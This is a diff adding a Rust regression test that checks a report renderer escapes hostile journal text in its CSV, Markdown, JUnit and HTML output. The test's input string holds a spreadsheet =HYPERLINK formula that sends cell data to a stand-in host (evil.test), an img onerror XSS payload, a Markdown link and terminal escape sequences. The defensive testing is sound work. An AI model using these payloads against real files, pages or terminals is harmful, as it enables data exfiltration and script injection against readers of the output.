@@ -1130,3 +1130,59 @@ fn a_retroactive_approval_recorded_beside_the_journal_is_counted() {
     );
     assert!(!e.overdue);
 }
+
+/// Regression: what a journal said (an operator's name, a cloud's error
+/// message) went into Markdown, CSV, JUnit and HTML as written: a report
+/// opened in a spreadsheet ran `=HYPERLINK(...)`, a Markdown viewer made
+/// links, images and HTML of it, and a terminal ran its escape sequences.
+#[test]
+fn regression_hostile_journal_text_is_escaped_in_every_format() {
+    let plans = plans();
+    let mut r = build(&request(&plans), &journals());
+    let hostile_error = "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\") <img src=x onerror=alert(1)> [click](http://evil.test) \x1b]0;owned\x07\x1b[2J";
+    let run = &mut r.plans[0].runs[0];
+    run.operator = Some("-2+3 <script>".into());
+    run.errors = vec![hostile_error.into()];
+    let csv = render::csv(&r);
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    let operator = &row[9];
+    let errors = &row[24];
+    assert_eq!(operator, "'-2+3 <script>");
+    assert!(errors.starts_with("'=HYPERLINK"), "{errors}");
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
+        }
+    }
+    let md = render::markdown(&r);
+    assert!(
+        md.contains("\\<img src=x onerror=alert(1)\\>")
+            && md.contains("\\[click\\](http://evil.test)"),
+        "{md}"
+    );
+    for line in md
+        .lines()
+        .filter(|l| l.contains("evil") || l.contains("script"))
+    {
+        let bare = |c: char| {
+            line.match_indices(c)
+                .any(|(i, _)| !line[..i].ends_with('\\'))
+        };
+        assert!(!bare('<') && !bare('['), "every < and [ escaped: {line}");
+    }
+    assert!(
+        !md.contains('\x1b') && !md.contains('\x07'),
+        "no control character"
+    );
+    let junit = render::junit(&r);
+    assert!(
+        !junit.contains('\x1b') && !junit.contains("<img"),
+        "{junit}"
+    );
+    let html = super::html::html(&r);
+    assert!(
+        !html.contains('\x1b') && !html.contains("<img src=x"),
+        "escaped"
+    );
+}
